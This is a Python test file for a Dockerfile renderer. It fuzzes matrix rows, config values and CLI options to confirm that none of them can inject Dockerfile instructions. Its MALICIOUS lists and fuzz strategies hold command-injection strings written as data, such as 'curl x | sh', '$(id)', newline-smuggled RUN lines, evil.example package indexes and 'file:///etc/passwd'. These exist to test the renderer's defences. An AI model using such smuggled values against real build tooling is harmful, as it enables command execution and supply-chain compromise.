"""Nothing a matrix row, a config file or a CLI option holds can inject into a Dockerfile.

Every user-controlled value either fails with a RenderError/UserError, or the rendered
Dockerfile parses into exactly the instructions of a clean render and the value reads back
exactly from its LABEL/ENV.
"""

from __future__ import annotations

import dataclasses
import json
import shlex
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings, strategies as st

from envman.errors import RenderError, UserError
from envman.render.dockerfile import render_stack
from envman.render.options import RenderOptions
from tests.support.index_server import make_wheel

from tests.unit.render.test_dockerfile import PROBE, cpu_stack, instructions, make_stack, parse

# --- malicious rows -----------------------------------------------------------------------------

MALICIOUS = [
    ("packages", ("torch==1.0; curl x | sh",)),
    ("packages", ("torch==1.0 && curl x",)),
    ("packages", ("torch==$(curl x)",)),
    ("packages", ("torch==`id`",)),
    ("packages", ("torch==1.0\nRUN curl x",)),
    ("packages", ("torch>=1.0",)),
    ("packages", ("torch",)),
    ("packages", ("--index-url=https://evil.example/simple",)),
    ("packages", ("torch @ https://evil.example/torch.whl",)),
    ("packages", ("torch==1.0 --extra-index-url https://evil.example",)),
    ("packages", ()),
    ("name", "torch-2.4\nRUN curl x | sh"),
    ("name", "torch-$(id)"),
    ("name", 'torch" evil="1'),
    ("row", "row; id"),
    ("framework_version", "2.4.1 && id"),
    ("variant", "cu124`id`"),
    ("python", "3.10; id"),
    ("python", "3.10\n"),
    ("os", "ubuntu22.04; id"),
    ("cuda", "12.4$(id)"),
    ("min_driver", "525.60.13 && id"),
    ("base_image", "ubuntu:22.04\nRUN curl x"),
    ("base_image", "ubuntu:22.04 AS evil"),
    ("base_image", "ubuntu"),
    ("base_image", "Ubuntu:22.04"),
    ("base_image", "ubuntu:22.04;id"),
    ("flavour", "devel; id"),
    ("python_strategy", "conda"),
    ("index_url", "https://x.example/simple; curl x"),
    ("index_url", "https://x.example/$(id)"),
    ("index_url", "https://x.example/ simple"),
    ("index_url", "file:///etc/passwd"),
    ("index_url", "https://user:pass@x.example/simple"),
    ("extra_index_url", "https://x.example/'quote"),
    ("find_links", "https://x.example/#frag"),
    ("find_links", 'https://x.example/a"b'),
]


@pytest.mark.parametrize("field,value", MALICIOUS, ids=[f"{f}:{v!r}"[:60] for f, v in MALICIOUS])
def test_malicious_row_is_a_render_error(field, value):
    with pytest.raises(RenderError) as info:
        render_stack(make_stack(**{field: value}), probe=PROBE)
    line = info.value.line()
    assert "\n" not in line and ("stack" in line or "reference" in line or "Python" in line)


@pytest.mark.parametrize(
    "key,value",
    [
        ("pip_index", "https://x.example/simple; curl x"),
        ("pip_extra_index", "https://x.example/$(id)"),
        ("framework_index", "https://x.example/`id`"),
        ("apt_mirror", "http://x.example/ubuntu#s#evil"),
        ("apt_mirror", "http://x.example/ubuntu&"),
        ("apt_mirror", "http://x.example/u'; id; '"),
        ("python_install_mirror", "https://x.example/a b"),
        ("registry_mirror", "evil.example\nRUN id"),
        ("registry_mirror", "evil.example AS x"),
        ("registry_mirror", "https://evil.example"),
        ("registry_mirror", "evil"),
    ],
)
def test_malicious_option_is_a_user_error(key, value):
    with pytest.raises(UserError) as info:
        RenderOptions(**{key: value})
    assert "\n" not in info.value.line()


def test_free_text_in_a_row_stays_inside_its_label():
    evil = 'x"\nRUN curl evil | sh\nLABEL a="$(id)`id`\\'
    clean = instructions(render_stack(make_stack(), probe=PROBE).dockerfile)
    d = render_stack(make_stack(notes=(evil,), sources=(evil,), cudnn=evil), probe=PROBE).dockerfile
    assert [i[0] for i in instructions(d)] == [i[0] for i in clean]
    assert json.loads(parse(d).labels["envman.stack"])["notes"] == [evil]
    assert "curl evil" not in "\n".join(line for line in d.splitlines() if not line.startswith("      envman.stack="))


# --- fuzzing every user-controlled field -------------------------------------------------------

INJECTIONS = st.sampled_from(
    ["\n", "\nRUN id", "\r\n", ";", " ; id", "&&", "|", "$(id)", "${HOME}", "`id`", '"', "'", "\\", "\\\n",
     "#", " ", "\t", "\x00", "é", "\u2028", "@", "&", "?", ":", "%", "*", "[a]", "==", "/"]
)

STACK_FIELDS = {
    "name": "torch-2.4.1-cuda12.4-py3.10",
    "row": "torch-2.4.1-cuda12.4",
    "framework": "torch",
    "framework_version": "2.4.1",
    "variant": "cu124",
    "python": "3.10",
    "os": "ubuntu22.04",
    "cuda": "12.4",
    "min_driver": "525.60.13",
    "base_image": "nvidia/cuda:12.4.1-base-ubuntu22.04",
    "packages": "torch==2.4.1",
    "index_url": "https://download.pytorch.org/whl/cu124",
    "extra_index_url": "https://download.pytorch.org/whl/cpu",
    "find_links": "https://download.pytorch.org/whl/torch_stable.html",
    "notes": "a note",
    "sources": "https://pypi.org/simple/torch/",
    "cudnn": "8.9",
}

OPTION_FIELDS = {
    "registry_mirror": "registry.corp.example:5000/hub",
    "pip_index": "https://pypi.corp.example/simple",
    "pip_extra_index": "https://extra.corp.example/simple",
    "framework_index": "https://torch.corp.example/whl/cu124",
    "apt_mirror": "http://apt.corp.example/ubuntu",
    "python_install_mirror": "https://pbs.corp.example/dl",
}


def fuzzed(valid: str) -> st.SearchStrategy[str]:
    """Arbitrary text, and near-misses: a valid value with junk spliced in."""
    splice = st.tuples(st.integers(0, len(valid)), st.lists(INJECTIONS | st.text(max_size=3), min_size=1, max_size=3)).map(
        lambda t: valid[: t[0]] + "".join(t[1]) + valid[t[0]:]
    )
    return st.one_of(st.text(max_size=40), splice, st.just(valid))


def _stack_with(field: str, value: str):
    if field in ("packages", "notes", "sources"):
        return make_stack(**{field: (value,)})
    if field in ("index_url", "extra_index_url", "find_links"):
        return make_stack(**{"index_url": None, field: value})
    return make_stack(**{field: value})


def _check(dockerfile: str, clean: str, stack, options: RenderOptions) -> None:
    got, want = instructions(dockerfile), instructions(clean)
    assert [i[0] for i in got] == [i[0] for i in want], "instruction structure changed"
    # FROM the stack's own repository (a fuzzed base_image legitimately changes it; a mirror only prefixes it)
    assert got[0][1].split("/")[-1].split(":")[0] == stack.base_image.split("/")[-1].split(":")[0]
    labels = parse(dockerfile).labels
    assert labels["envman.name"] == stack.name
    assert json.loads(labels["envman.stack"]) == stack.to_json()
    envs = parse(dockerfile).envs
    if options.pip_index:
        assert envs["PIP_INDEX_URL"] == options.pip_index
    if options.pip_extra_index:
        assert envs["PIP_EXTRA_INDEX_URL"] == options.pip_extra_index
    for name, value in got:
        if name == "RUN":
            shlex.split(value)  # balanced quoting: nothing escaped the words it was put in


FUZZ = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.mark.parametrize("field", sorted(STACK_FIELDS))
def test_fuzz_stack_fields(field):
    valid = STACK_FIELDS[field]
    clean_stack = _stack_with(field, valid)
    clean = render_stack(clean_stack, probe=PROBE).dockerfile

    @FUZZ
    @given(fuzzed(valid))
    def run(value):
        try:
            stack = _stack_with(field, value)
            d = render_stack(stack, probe=PROBE).dockerfile
        except (RenderError, UserError):
            return
        _check(d, clean, stack, RenderOptions())

    run()


@pytest.mark.parametrize("field", sorted(OPTION_FIELDS))
def test_fuzz_network_options(field):
    valid = OPTION_FIELDS[field]
    stack = make_stack(python="3.12", python_strategy="standalone")  # every option shows in this render
    clean = render_stack(stack, RenderOptions(**{field: valid}), probe=PROBE).dockerfile

    @FUZZ
    @given(fuzzed(valid))
    def run(value):
        try:
            options = RenderOptions(**{field: value})
            d = render_stack(stack, options, probe=PROBE).dockerfile
        except (RenderError, UserError):
            return
        _check(d, clean, stack, options)

    run()


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(name=st.text(min_size=1, max_size=30))
def test_fuzz_wheel_file_names(tmp_path_factory, name):
    d = tmp_path_factory.mktemp("wh")
    try:
        (d / (name + ".whl")).write_bytes(b"x")
    except (OSError, ValueError):
        assume(False)
    stack = cpu_stack()
    try:
        ctx = render_stack(stack, RenderOptions(wheelhouse=d), probe=PROBE)
    except (RenderError, UserError):
        return
    good = Path(tmp_path_factory.mktemp("good"))
    (good / "torch-2.4.1-cp312-cp312-manylinux1_x86_64.whl").write_bytes(make_wheel("torch-2.4.1-cp312-cp312-manylinux1_x86_64.whl", [])[0])
    clean = render_stack(stack, RenderOptions(wheelhouse=good), probe=PROBE).dockerfile
    _check(ctx.dockerfile, clean, stack, RenderOptions())
    assert all(n.count("/") == 1 for n in ctx.files if n.startswith("wheels/"))


def test_valid_values_render_unchanged():
    """The fuzz baseline: the valid value of every field renders (so rejections above mean something)."""
    for field, valid in STACK_FIELDS.items():
        render_stack(_stack_with(field, valid), probe=PROBE)
    for field, valid in OPTION_FIELDS.items():
        render_stack(make_stack(), RenderOptions(**{field: valid}), probe=PROBE)
    assert dataclasses.replace(make_stack()).name  # Stack stays a plain frozen dataclass
